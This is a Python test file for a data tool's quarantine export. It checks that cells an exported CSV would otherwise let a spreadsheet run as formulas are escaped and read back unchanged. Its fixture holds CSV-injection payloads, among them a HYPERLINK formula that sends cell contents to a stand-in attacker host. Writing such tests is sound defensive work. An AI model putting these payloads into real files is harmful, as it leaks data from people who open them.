"""Quarantined rows as a file: what a spreadsheet would run is quoted, and comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from baton.data.cells import MASKED
from baton.errors import BatonError
from baton.quarantine import files
from baton.quarantine.rows import Where, list_rows, value_of
from baton.record import tables, warehouse

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
HOSTILE = (FORMULA, "+cmd", "-2+3", "@SUM(A1)", "\tx", "'quoted", "plain")


@pytest.fixture
def waiting(home: Path) -> Path:
    warehouse.migrate()
    row = {
        "flow": "f", "partition": "2026-11-20T09:00:00", "row_sha": "a" * 64, "row": 1, "source": "=s", "entity_key": "k",
        "column": None, "value": None, "status": "open", "repair": None, "reason": None, "actor": None,
        "raw": dict.fromkeys(HOSTILE, "=cell"), "first_seen": warehouse.now(), "updated_at": warehouse.now(),
    }  # fmt: skip
    with warehouse.write() as conn:
        conn.execute(
            tables.quarantine.insert(), [{**row, "rule": rule, "advice": rule} for rule in ("=rule", "@other")]
        )
    return home


def test_no_cell_of_an_export_is_a_formula_neither_is_its_header(waiting: Path) -> None:
    files.export(waiting / "rows.csv")
    with (waiting / "rows.csv").open(newline="", encoding="utf-8") as file:
        lines = list(csv.reader(file))
    assert [cell for line in lines for cell in line if cell[:1] in tuple("=+-@\t\r")] == []


def test_columns_come_back_under_their_own_names(waiting: Path) -> None:
    path = waiting / "rows.csv"
    files.export(path)
    path.write_text(path.read_text(encoding="utf-8").replace("=cell", "new"), "utf-8")
    assert files.repair_file(path, "ada").cells == len(HOSTILE)
    assert set(list_rows(Where())[0].repair) == set(HOSTILE)


@pytest.mark.parametrize("entry", ["5", '{"row": 1}', '{"cells": ["a"]}'])
def test_an_entry_without_cells_is_named(home: Path, entry: str) -> None:
    path = home / "rows.json"
    path.write_text(f"[{entry}]")
    with pytest.raises(BatonError, match="entry 1: expected an object with `cells`"):
        files.repair_file(path, "ada")


def test_who_may_decide_reads_a_masked_value_from_the_row_and_its_repair() -> None:
    record = {"value": MASKED, "column": "name, age", "raw": {"name": "Ann", "age": "x"}, "repair": None}
    assert value_of(record) == "Ann, x"
    assert value_of({**record, "repair": {"age": "7"}}) == "Ann, 7"
    assert value_of({**record, "raw": None}) == ", "
    assert value_of({**record, "value": "seen"}) == "seen"
